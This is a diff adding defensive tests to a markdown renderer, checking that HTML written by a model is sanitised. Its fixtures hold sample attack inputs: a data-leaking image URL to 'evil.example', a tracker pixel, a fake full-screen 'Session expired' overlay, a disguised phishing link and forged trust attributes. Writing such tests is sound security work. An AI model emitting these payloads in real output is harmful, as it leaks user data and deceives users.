@@ -64,3 +64,83 @@ describe('renderMarkdown: GFM task lists', () => {
     expect(root.querySelector('img')?.getAttribute('src')).toBe('x');
   });
 });
+
+describe('renderMarkdown: model output is untrusted', () => {
+  it('drops style and class from the HTML a model writes, keeping them on the renderer\'s own code, math and tables', () => {
+    const root = dom(
+      renderMarkdown(
+        [
+          '<div style="position:fixed;inset:0;background:red" class="message-actions login-form">Session expired</div>',
+          '',
+          '<span class="katex" style="color:white">hidden</span> $x^2$',
+          '',
+          '```js',
+          'const a = 1;',
+          '```',
+          '',
+          '| a | b |',
+          '|---|---|',
+          '| <b style="font-size:90px" class="x">1</b> | 2 |',
+        ].join('\n'),
+      ),
+    );
+    const raw = root.querySelector('div:not(.code-block):not(.table-wrap):not(.code-head)');
+    expect(raw?.textContent).toBe('Session expired');
+    expect(raw?.getAttribute('style')).toBeNull();
+    expect(raw?.getAttribute('class')).toBeNull();
+    const fake = [...root.querySelectorAll('span')].find((span) => span.textContent === 'hidden');
+    expect(fake?.getAttribute('style')).toBeNull();
+    expect(fake?.getAttribute('class')).toBeNull();
+    // The renderer's own markup keeps its classes (and KaTeX its sizes); its trust marks are gone.
+    expect(root.querySelector('.katex')).not.toBeNull();
+    expect(root.querySelector('.katex [style]')).not.toBeNull();
+    expect(root.querySelector('.code-block .hljs-keyword')).not.toBeNull();
+    expect(root.querySelector('.table-wrap > table b')?.getAttribute('style')).toBeNull();
+    expect(root.querySelector('.table-wrap > table b')?.getAttribute('class')).toBeNull();
+    expect(root.innerHTML).not.toContain('data-nc-trust');
+  });
+
+  it('cannot be given the renderer\'s trust by writing its mark', () => {
+    const first = renderMarkdown('$y$');
+    const guessed = /data-nc-trust="([^"]*)"/.exec(first)?.[1];
+    expect(guessed).toBeUndefined();
+    for (const mark of ['data-nc-trust=""', 'data-nc-trust="x:self"', 'data-nc-trust="0123456789abcdef01234567"']) {
+      const root = dom(renderMarkdown(`<p ${mark} style="position:fixed" class="code-block">p</p>`));
+      expect(root.querySelector('p')?.getAttribute('style')).toBeNull();
+      expect(root.querySelector('p')?.getAttribute('class')).toBeNull();
+    }
+  });
+
+  it('holds images of other sites behind a button naming the site, and loads them once asked, without a referrer', () => {
+    const source = '![chart](https://evil.example/leak?d=secret) <img src="http://tracker.example/p.gif"> ![local](/api/x.png) ![inline](data:image/png;base64,iVBORw0KGgo=)';
+    const root = dom(renderMarkdown(source));
+    const held = [...root.querySelectorAll<HTMLButtonElement>('button.remote-image')];
+    expect(held.map((button) => [button.dataset.src, button.textContent])).toEqual([
+      ['https://evil.example/leak?d=secret', 'Image from evil.example — click to load'],
+      ['http://tracker.example/p.gif', 'Image from tracker.example — click to load'],
+    ]);
+    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['/api/x.png', 'data:image/png;base64,iVBORw0KGgo=']);
+    const loaded = dom(renderMarkdown(source, undefined, new Set(['https://evil.example/leak?d=secret'])));
+    const img = loaded.querySelector('img[src^="https://evil.example"]');
+    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
+    expect(loaded.querySelectorAll('button.remote-image')).toHaveLength(1);
+  });
+
+  it('never loads media, responsive sources or backgrounds of other sites', () => {
+    const root = dom(
+      renderMarkdown('<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio src="https://evil.example/a.mp3"></audio><picture><source srcset="https://evil.example/s.png"></picture><table background="https://evil.example/b.png"><tr><td>t</td></tr></table><img src="/ok.png" srcset="https://evil.example/2x.png 2x">'),
+    );
+    expect(root.innerHTML).not.toContain('evil.example');
+  });
+
+  it('shows where a link really goes: its address on hover and its site beside a text that is not the address', () => {
+    const root = dom(renderMarkdown('[your bank](https://phish.example/login) and https://docs.example.org/guide and [here](/c/1)'));
+    const [phish, plain, local] = [...root.querySelectorAll('a')];
+    expect(phish?.getAttribute('title')).toBe('https://phish.example/login');
+    expect(phish?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+    expect(phish?.nextElementSibling?.textContent).toBe(' (phish.example)');
+    expect(plain?.getAttribute('title')).toBe('https://docs.example.org/guide');
+    expect(plain?.nextElementSibling?.classList.contains('link-host') ?? false).toBe(false);
+    expect(local?.getAttribute('title')).toBeNull();
+  });
+});
